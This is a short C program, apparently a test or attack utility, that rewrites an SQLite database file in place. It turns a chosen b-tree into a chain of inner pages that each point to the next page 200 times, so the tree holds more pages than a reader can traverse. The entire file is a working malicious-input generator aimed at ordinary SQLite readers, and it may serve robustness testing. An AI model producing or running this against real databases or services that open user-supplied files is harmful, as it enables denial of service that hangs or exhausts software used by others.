/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * endless_tree FILE ROOT: makes a small SQLite database whose b-tree with that root page has more pages than a computer can
 * read: its first leaves become inner pages, each of which names the next one many times. Layout: the b-tree pages of
 * fileformat2.html of SQLite's documentation. The WAL must be empty.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define DEPTH	    12 /* SQLite reads trees of at most 20 levels */
#define LEAVES_MAX  64
#define CELLS	    200
#define HEADER	    12 /* of an inner page */
#define IS_LEAF	    8  /* in the type of a page */
#define CELL_LENGTH 64

static uint8_t *file;
static size_t size, page_size;

static uint8_t *page_of(uint32_t number)
{
	if (number < 2 || number > size / page_size) {
		fprintf(stderr, "endless_tree: no page %u\n", number);
		exit(1);
	}
	return file + (number - 1) * page_size;
}

static uint32_t get(const uint8_t *at, int bytes)
{
	uint32_t value = 0;

	while (bytes-- > 0)
		value = value << 8 | *at++;
	return value;
}

static void put(uint8_t *at, uint32_t value, int bytes)
{
	while (bytes-- > 0)
		*at++ = (uint8_t)(value >> 8 * bytes);
}

/* The leaves below a page, from the left. */
static size_t find_leaves(uint32_t number, uint32_t *leaves, size_t count)
{
	const uint8_t *page = page_of(number);
	uint32_t cells = get(page + 3, 2);

	if (page[0] & IS_LEAF) {
		if (count < LEAVES_MAX)
			leaves[count++] = number;
		return count;
	}
	for (uint32_t i = 0; i < cells && count < LEAVES_MAX; i++)
		count = find_leaves(get(page + get(page + HEADER + 2 * i, 2), 4), leaves, count);
	return count;
}

/* All cells are the same one, a copy of `cell`, and lead to `child`. */
static void make_inner(uint8_t *page, uint8_t type, const uint8_t *cell, uint32_t child)
{
	uint32_t at = (uint32_t)page_size - CELL_LENGTH;

	memset(page, 0, page_size);
	page[0] = type;
	put(page + 3, CELLS, 2);
	put(page + 5, at, 2);
	put(page + 8, child, 4);
	for (uint32_t i = 0; i < CELLS; i++)
		put(page + HEADER + 2 * i, at, 2);
	memcpy(page + at, cell, CELL_LENGTH);
	put(page + at, child, 4);
}

static void bend(uint32_t root)
{
	uint8_t *page = page_of(root), cell[2 * CELL_LENGTH] = { 0 };
	uint32_t leaves[LEAVES_MAX], first = get(page + HEADER, 2);
	size_t count = find_leaves(root, leaves, 0);

	if ((page[0] & IS_LEAF) || count <= DEPTH) {
		fprintf(stderr, "endless_tree: the tree has only %zu leaves\n", count);
		exit(1);
	}
	memcpy(cell, page + first, page_size - first < CELL_LENGTH ? page_size - first : CELL_LENGTH);
	for (size_t i = 0; i < DEPTH; i++)
		make_inner(page_of(leaves[i]), page[0], cell, leaves[i + 1]);
	make_inner(page, page[0], cell, leaves[0]);
}

int main(int argc, char **argv)
{
	FILE *stream = argc == 3 ? fopen(argv[1], "r+") : NULL;

	if (!stream || fseek(stream, 0, SEEK_END) != 0)
		return 2;
	size = (size_t)ftell(stream);
	file = malloc(size);
	rewind(stream);
	if (!file || fread(file, 1, size, stream) != size || size < 512)
		return 2;
	page_size = get(file + 16, 2) == 1 ? 65536 : get(file + 16, 2);
	bend((uint32_t)strtoul(argv[2], NULL, 10));
	rewind(stream);
	return fwrite(file, 1, size, stream) != size || fclose(stream) != 0;
}
